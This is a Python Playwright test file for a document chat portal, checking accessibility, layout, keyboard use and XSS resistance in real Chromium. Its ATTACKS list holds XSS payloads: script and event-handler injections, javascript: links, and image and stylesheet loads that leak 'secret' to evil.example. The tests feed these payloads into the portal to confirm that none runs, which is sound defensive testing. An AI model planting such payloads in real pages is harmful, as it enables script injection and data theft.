"""The portal in real Chromium, with hostile text, API keys, small windows and screen readers."""

import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from playwright.sync_api import Browser, BrowserContext, Page, expect

from app.accounts.models import Organisation
from app.bots.services import bot_create
from app.chat.choices import AnswerMode, MessageRole
from app.chat.models import Citation, Conversation, Message
from app.library.choices import DocumentState
from app.library.models import Document, Source
from tests.chromium import browser, needs_browser
from tests.documents import document_row
from tests.page_frame import page_faults
from tests.people import Person

__all__ = ["browser"]  # a fixture
ROOT = Path(__file__).resolve().parents[3]
AXE = ROOT / "frontend" / "node_modules" / "axe-core" / "axe.min.js"
# A public list if it is next to the checkout; our own attacks always.
LIST = ROOT.parent / "shared" / "data" / "attacks" / "xss-payload-list.txt"
ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/leak.png?q=secret)",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "<details open ontoggle=alert(1)>",
    "<base href='https://evil.example/'>",
    "{{7*7}} {% debug %} ${alert(1)}",
    "\u202egnp.exe",
]
PHONE = {"width": 390, "height": 844}
DESK = {"width": 1440, "height": 900}

pytestmark = needs_browser
windows = pytest.mark.parametrize("viewport", [PHONE, DESK], ids=["phone", "desk"])
Uploads = Callable[[Organisation], Source]


@pytest.fixture
def address(transactional_db: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """Address of the real server, in this process, over the test's database."""
    from app.asgi import application

    # Playwright's loop runs in this thread, and Django otherwise refuses a test's database access in it.
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "1")
    server = uvicorn.Server(uvicorn.Config(application, port=0, log_level="warning", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        assert thread.is_alive()
        time.sleep(0.01)
    port = server.servers[0].sockets[0].getsockname()[1]
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join()


@pytest.fixture
def library(alice: Person, acme: Organisation, uploads: Uploads) -> Conversation:
    """Create a bot, a ready document, and an answered question that cites a deleted document."""
    bot = bot_create(
        organisation=acme, slug="default", name="Reference desk", settings={"starters": ["How much leave?"]}
    )
    document_row(uploads(acme), "handbook.pdf", state=DocumentState.READY, pages=3, chunks=9)
    conversation = Conversation.objects.create(organisation=acme, bot=bot, user=alice.user, title="Leave")
    answer_make(
        conversation,
        "How much leave?",
        "Your leave is 28 days [1].",
        "Dear all. You have 28 days of leave.",
        "old handbook.pdf",
    )
    return conversation


def answer_make(conversation: Conversation, question: str, text: str, quote: str, document: str) -> None:
    organisation = conversation.organisation
    asked = Message.objects.create(
        organisation=organisation, conversation=conversation, role=MessageRole.USER, content=question
    )
    answer = Message.objects.create(
        organisation=organisation,
        conversation=conversation,
        role=MessageRole.ASSISTANT,
        reply_to=asked,
        content=text,
        mode=AnswerMode.MODEL,
        model=document[:200],
    )
    Citation.objects.create(
        organisation=organisation,
        message=answer,
        n=1,
        start=0,
        end=len(text),
        chunk_id=asked.id,
        document_name=document[:255],
        version=1,
        text=quote,
        place={"kind": "heading", "heading": [document]},
        as_of=answer.created,
    )


def signed_in(browser: Browser, address: str, person: Person, **more: Any) -> BrowserContext:
    context = browser.new_context(viewport=more.pop("viewport", DESK), **more)
    cookies = [{"name": name, "value": cookie.value, "url": address} for name, cookie in person.client.cookies.items()]
    context.add_cookies(cookies)  # type: ignore[arg-type]
    return context


def watch(page: Page) -> list[str]:
    """Return everything that hostile text could make happen: a dialog, an error, a blocked script, a call elsewhere."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.append(f"error {error}"))
    page.on("console", lambda said: seen.append(said.text) if "Content Security" in said.text else None)
    page.on("request", lambda asked: seen.append(asked.url) if not asked.url.startswith("http://127.0.0.1:") else None)
    return seen


def attacks() -> list[str]:
    lines = LIST.read_text("utf-8", "replace").splitlines() if LIST.exists() else []
    return [*ATTACKS, *(line.replace("\0", "") for line in lines)]


def test_nothing_in_an_attack_list_runs_loads_or_leaves_the_page(
    browser: Browser, address: str, alice: Person, acme: Organisation, uploads: Uploads
) -> None:
    everything = attacks()
    source = uploads(acme)
    bot = bot_create(
        organisation=acme, slug="default", name=ATTACKS[0], settings={"greeting": ATTACKS[1], "starters": ATTACKS[2:5]}
    )
    conversation = Conversation.objects.create(organisation=acme, bot=bot, user=alice.user, title=ATTACKS[1])
    for name in ATTACKS:
        document_row(source, name, state=DocumentState.FAILED, error_code="no_text", error_message=name)
        answer_make(conversation, name, f"{name} [1]", name, name)
    for start in range(0, len(everything), 400):
        text = "\n\n".join(everything[start : start + 400])
        answer_make(conversation, text[:2000], f"{text}\n\nEnd [1]", text, "list.txt")
    page = signed_in(browser, address, alice).new_page()
    seen = watch(page)
    page.goto(f"{address}/c/{conversation.id}")
    expect(page.locator(".source").last).to_be_visible(timeout=60_000)
    for chip in page.locator(".chip").all()[: len(ATTACKS)]:
        chip.dispatch_event("mouseenter")
        chip.dispatch_event("click")
        expect(page.locator("#source .source-quote")).to_be_visible()
    for path in ("/", "/documents", f"/documents/{Document.objects.latest('created').id}"):
        page.goto(address + path)
        page.wait_for_timeout(300)
    assert seen == []
    page.context.close()


def test_keys_lead_to_the_field_and_out_of_the_source(
    browser: Browser, address: str, alice: Person, library: Conversation
) -> None:
    page = signed_in(browser, address, alice).new_page()
    page.goto(f"{address}/c/{library.id}")
    chip = page.locator(".chip")
    chip.focus()
    expect(page.locator(".quote-popover")).to_contain_text("You have 28 days of leave.")
    page.keyboard.press("Enter")
    expect(page.locator("#source")).to_contain_text("has been deleted")
    expect(page.locator("#source mark")).to_have_text("You have 28 days of leave.")
    page.keyboard.press("Escape")
    expect(page.locator("#source")).to_be_hidden()
    expect(chip).to_be_focused()
    page.keyboard.press("/")
    expect(page.get_by_role("textbox", name="Your question")).to_be_focused()
    page.keyboard.type("half a question")
    page.reload()
    expect(page.get_by_role("textbox", name="Your question")).to_have_value("half a question")
    page.context.close()


def test_on_a_phone_the_back_gesture_closes_the_source_and_the_menu_is_a_drawer(
    browser: Browser, address: str, alice: Person, library: Conversation
) -> None:
    page = signed_in(browser, address, alice, viewport=PHONE, has_touch=True).new_page()
    page.goto(f"{address}/c/{library.id}")
    page.locator(".chip").tap()
    expect(page.locator("#source .source-n")).to_contain_text("1")
    page.locator("#source").evaluate("panel => Promise.all(panel.getAnimations().map(one => one.finished))")
    assert page.locator("#source").bounding_box() == {"x": 0, "y": 0, **PHONE}
    page.go_back()
    expect(page.locator("#source")).to_be_hidden()
    assert page.url.endswith(f"/c/{library.id}")
    expect(page.locator("#left")).to_be_hidden()
    page.get_by_role("button", name="Menu").tap()
    expect(page.get_by_role("link", name="Documents")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#left")).to_be_hidden()
    page.context.close()


def test_the_chosen_colours_stay_over_a_reload_and_need_no_flash(
    browser: Browser, address: str, alice: Person, library: Conversation
) -> None:
    page = signed_in(browser, address, alice, color_scheme="light").new_page()
    page.goto(address)
    paper = "getComputedStyle(document.body).backgroundColor"
    assert page.evaluate(paper) == "rgb(251, 250, 247)"
    page.get_by_title("Dark").click()
    assert page.evaluate(paper) == "rgb(21, 22, 19)"
    page.reload()
    assert page.evaluate(paper) == "rgb(21, 22, 19)"
    page.context.close()


def test_a_long_conversation_scrolls_inside_its_frame(
    browser: Browser, address: str, alice: Person, library: Conversation
) -> None:
    for year in range(12):
        answer_make(library, f"And in year {year}?", "In that year [1].", "Years are long.", "handbook.pdf")
    page = signed_in(browser, address, alice).new_page()
    page.goto(f"{address}/c/{library.id}")
    page.locator(".chip").last.click()
    expect(page.locator("#source mark")).to_be_visible()
    page.mouse.move(100, 400)  # over the column at the left
    page.mouse.wheel(0, 2000)
    page.mouse.move(DESK["width"] - 60, 30)  # over the head of the source
    page.mouse.wheel(0, 2000)
    page.locator(".chip").first.click()
    page.locator(".chip").last.click()
    assert page_faults(page) == []
    assert page.evaluate("scrollY") == 0
    field = page.get_by_role("textbox", name="Your question").bounding_box()
    assert field is not None
    assert DESK["height"] - 100 < field["y"] < DESK["height"]
    page.context.close()


@windows
def test_an_empty_conversation_keeps_the_field_beside_its_questions(
    browser: Browser, address: str, alice: Person, library: Conversation, viewport: Any
) -> None:
    page = signed_in(browser, address, alice, viewport=viewport).new_page()
    page.goto(address)
    field, starters = (page.locator(each).bounding_box() for each in (".composer-field", ".starters"))
    assert field is not None
    assert starters is not None
    assert 0 <= field["y"] - (starters["y"] + starters["height"]) <= 24
    # In the middle, not at the foot.
    assert field["y"] < viewport["height"] * 0.75
    assert page_faults(page) == []
    page.context.close()


@windows
def test_many_uploads_leave_the_documents_in_sight(
    browser: Browser, address: str, alice: Person, library: Conversation, viewport: Any
) -> None:
    page = signed_in(browser, address, alice, viewport=viewport).new_page()
    page.goto(f"{address}/documents")
    files = [{"name": f"{number}.txt", "mimeType": "text/plain", "buffer": b"Words."} for number in range(11)]
    page.locator("input[type=file]").first.set_input_files(files)  # type: ignore[arg-type]
    expect(page.locator(".uploads-head")).to_have_text("11 files received, 11 being read")
    row = page.locator("#document-rows tr").first.bounding_box()
    assert row is not None
    assert row["y"] + row["height"] < viewport["height"] * 0.75
    assert page_faults(page) == []
    page.context.close()


@windows
def test_the_list_of_documents_can_be_read(
    browser: Browser, address: str, alice: Person, library: Conversation, uploads: Uploads, viewport: Any
) -> None:
    name = "A report about travel and expenses of the second quarter in all three offices, final version.pdf"
    document_row(Source.objects.get(), name, state=DocumentState.READY, pages=12, chunks=84)
    page = signed_in(browser, address, alice, viewport=viewport).new_page()
    page.goto(f"{address}/documents")
    row = page.locator("#document-rows tr").first
    link = row.locator("[data-cell=name]")
    cut = link.evaluate("link => link.scrollHeight - link.clientHeight")
    assert (link.text_content(), cut <= 1) == (name, True)
    for words in ("Ready", "12", "84"):
        expect(row.get_by_text(words, exact=True)).to_be_visible()
    assert page_faults(page) == []
    page.context.close()


def axe_findings(page: Page) -> list[Any]:
    """Return axe's findings, run through the debugger: the page's own policy lets no foreign script in."""
    debugger = page.context.new_cdp_session(page)
    debugger.send("Runtime.evaluate", {"expression": AXE.read_text("utf-8")})
    found: list[Any] = page.evaluate(
        "axe.run().then(result => result.violations.map(v => [v.id, v.nodes.map(node => node.html), v.impact]))"
    )
    return found


def axe_serious(page: Page) -> list[Any]:
    """Return those of axe's findings that are serious or critical."""
    return [finding for finding in axe_findings(page) if finding[2] in ("serious", "critical")]
